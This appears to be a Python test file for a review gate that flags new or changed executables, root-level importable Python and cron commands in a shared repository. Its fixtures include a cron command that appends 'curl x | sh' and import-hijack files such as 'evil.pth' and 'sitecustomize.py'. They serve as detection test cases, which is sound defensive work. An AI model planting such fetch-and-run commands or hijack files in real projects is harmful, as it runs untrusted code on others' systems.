"""The reading list of the authoring gate: executables new, changed or newly executable in
shared scopes, importable Python new at the root, crons.json commands new or changed (pure)."""

from exobrain.gate.crons import CronJob
from exobrain.gate.executables import (
    changed_commands,
    changed_executables,
    is_scope_hook,
    new_root_python,
    scope_of,
)

SCOPES = {"global": "global", "groups/acme": "group", "people/al": "person"}
X, F = "100755", "100644"


def test_scope_hooks_and_executable_files_of_shared_scopes_are_listed():
    base = {
        "groups/acme/scripts/connect-agent": (F, "a1"),
        "skills/tidy/run.sh": (F, "b1"),
        "skills/tidy/same.sh": (X, "c1"),
    }
    now = {
        "groups/acme/scripts/connect-agent": (F, "a2"),  # a hook runs whatever its mode
        "groups/acme/scripts/connect-agent.claude": (F, "d1"),
        "skills/tidy/run.sh": (X, "b1"),
        "skills/tidy/same.sh": (X, "c1"),
        "skills/tidy/notes.md": (F, "e1"),
        "people/al/scripts/connect-agent": (X, "f1"),  # personal: imposes on no one
    }
    found = [(e.path, e.scope, e.change) for e in changed_executables(base, now, SCOPES)]
    assert found == [
        ("groups/acme/scripts/connect-agent", "groups/acme", "changed"),
        ("groups/acme/scripts/connect-agent.claude", "groups/acme", "new"),
        ("skills/tidy/run.sh", "global", "made executable"),
    ]


def test_where_a_file_belongs():
    assert scope_of("groups/acme/skills/x/run.sh", SCOPES) == "groups/acme"
    assert scope_of("groups/other/run.sh", SCOPES) == "global"
    assert is_scope_hook("scripts/connect-agent", SCOPES)
    assert not is_scope_hook("groups/acme/scripts/connect-agentx", SCOPES)
    assert not is_scope_hook("groups/nope/scripts/connect-agent", SCOPES)


def test_importable_python_new_at_the_root_is_listed_once_per_name():
    base = {"tests/__init__.py": (F, "a1"), "tools/__init__.py": (F, "t1")}
    now = {
        "tests/__init__.py": (F, "a2"),  # there at the base: the repository's own
        "tools/__init__.py": (F, "t1"),
        "exobrain/__init__.py": (F, "b1"),
        "exobrain/mcp/__main__.py": (F, "b2"),
        "fast/__init__.cpython-311-x86_64-linux-gnu.so": (F, "f1"),
        "sitecustomize.py": (F, "c1"),
        "json.pyc": (F, "d1"),
        "evil.pth": (F, "e1"),
        "notes/readme.md": (F, "g1"),
        "skills/tidy/helper.py": (F, "h1"),  # not at the root: nothing imports it from there
        "README.md": (F, "i1"),
    }
    found = [(p.path, p.kind) for p in new_root_python(base, now)]
    assert found == [
        ("evil.pth", "path file"),
        ("exobrain/", "package"),
        ("fast/", "package"),
        ("json.pyc", "module"),
        ("sitecustomize.py", "module"),
    ]
    assert new_root_python(now, now) == []


def test_crons_commands_new_or_changed_by_job_name():
    def job(name, command, schedule="0 3 * * *"):
        return CronJob(name, schedule, command, None, 0)

    base = (job("tidy", "exobrain lock"), job("same", "true"), job("gone", "x"))
    now = (
        job("tidy", "exobrain lock; curl x | sh"),
        job("same", "true", "0 4 * * *"),
        job("fresh", "date"),
    )
    found = [(c.job, c.command, c.change) for c in changed_commands(base, now)]
    assert found == [
        ("tidy", "exobrain lock; curl x | sh", "changed"),
        ("fresh", "date", "new"),
    ]
